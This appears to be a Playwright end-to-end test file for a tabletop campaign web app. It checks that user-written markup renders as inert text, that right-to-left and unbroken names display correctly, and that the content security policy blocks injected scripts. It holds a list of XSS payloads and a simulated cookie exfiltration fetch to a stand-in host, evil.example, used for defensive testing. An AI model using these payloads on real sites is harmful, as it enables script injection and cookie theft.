import type { Locator, Page } from '@playwright/test'
import { expect, test } from './table.ts'
import { widest } from './widths.ts'

/** What people write is text to everybody else's browser, wherever it is shown. */

const vectors = [
  '<img src=x onerror="window.harmed=1">',
  '"><svg onload="window.harmed=1">',
  "'-window.harmed=1-'",
  '<script>window.harmed=1</script>',
  '{{constructor.constructor("window.harmed=1")()}}',
]
const name = vectors.join(' ').slice(0, 200)
const description = `${vectors.join('\n')}\n[a](javascript:window.harmed=1) <iframe srcdoc="<script>top.harmed=1</script>">\n<a href="javascript:window.harmed=1">b</a>`

/** Dialogs, refused scripts and anything else that would not happen to text. */
const watch = (page: Page): string[] => {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) seen.push(message.text())
  })
  page.on('pageerror', (error) => seen.push(error.message))
  return seen
}

test('markup and scripts that somebody writes are shown to others as they stand', async ({ table, server }) => {
  const { owner, player, campaignId } = table
  await owner.ask('PATCH', `campaigns/${campaignId}`, { name, description, welcomeMessage: description })
  const { id: folder = '' } = await owner.ask('POST', 'collections', { campaignId, name, parentId: null })
  const tags = vectors.map((vector) => vector.slice(0, 60))
  const lore = { campaignId, collectionId: folder, name, description, tags, visibility: 'CAMPAIGN' }
  const { id = '' } = await owner.ask('POST', 'conjurations', lore)
  const { code = '' } = await owner.ask('POST', `campaigns/${campaignId}/invitations`, {})

  const { page } = player
  const seen = watch(page)
  const shows = async (path: string, part = '<img src=x') => {
    await page.goto(`${server.url}${path}`)
    await expect(page.locator('body')).toContainText(part)
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false)
    expect(await page.locator('iframe, [onerror], [onload], a[href^="javascript:"]').count()).toBe(0)
  }
  await shows('/collections')
  await shows(`/collections/${folder}`)
  await shows(`/campaigns/invite/${code}`)
  await shows(`/lore/view/${id}`, '[a](javascript:window.harmed=1)')
  expect(seen).toEqual([])
})

test('what people write runs the way that its letters do: in pages, titles of dialogs, toasts and fields', async ({
  table,
}) => {
  const { page, ask } = table.owner
  const name = 'שלום עולם'
  const { id = '' } = await ask('POST', 'conjurations', { campaignId: table.campaignId, name, description: name })
  const directionOf = (part: Locator) => part.evaluate((element) => getComputedStyle(element).direction)
  await page.goto(`/lore/view/${id}`)
  const title = page.getByRole('textbox', { name: 'Name' })
  await expect(title).toBeVisible()
  expect(await directionOf(title)).toBe('rtl')
  await page.getByRole('button', { name: 'Actions', exact: true }).click()
  await page.getByRole('menuitem', { name: 'Delete' }).click()
  const asked = page.getByRole('alertdialog')
  expect(await directionOf(asked.getByText(name))).toBe('rtl')
  await asked.getByRole('button', { name: 'Delete' }).click()

  await page.goto('/campaign/edit/trash')
  await page.getByRole('button', { name: `Restore ${name}` }).click()
  expect(await directionOf(page.getByRole('status').getByText(`${name} was restored`))).toBe('rtl')
  await page.getByRole('link', { name: 'General' }).click()
  await page.getByLabel('Campaign name').fill(name)
  expect(await directionOf(page.getByLabel('Campaign name'))).toBe('rtl')
})

test('names without a break stay on the screen', async ({ table }) => {
  const { page, ask } = table.owner
  await ask('PATCH', `campaigns/${table.campaignId}`, { name: 'W'.repeat(200), rpgSystemCode: 'R'.repeat(100) })
  await page.goto('/campaign/edit/members')
  await expect(page.getByText('Whoever opens the link')).toBeVisible()
  expect(await widest(page)).toBe(page.viewportSize()?.width)
})

test('a script that got into a page after all is not run by the browser', async ({ table, server }) => {
  const { page } = table.owner
  await page.goto(`${server.url}/collections`)
  await expect(page.getByText('The Drowned Bells').first()).toBeVisible()
  const harmed = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'window.harmed = 1'
    const image = document.createElement('div')
    image.innerHTML = '<img src="data:," onerror="window.harmed = 1">'
    const elsewhere = document.createElement('script')
    elsewhere.src = 'https://evil.example/x.js'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(inline, image, elsewhere, frame)
    const told = await fetch('https://evil.example/?cookie').catch(() => 'refused')
    await new Promise<void>((resolve) => {
      const look = () => (refused.length < 5 ? requestAnimationFrame(look) : resolve())
      look()
    })
    return { harmed: 'harmed' in window, told, refused: [...new Set(refused)].sort() }
  })
  expect(harmed).toEqual({
    harmed: false,
    told: 'refused',
    refused: ['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem'],
  })
})
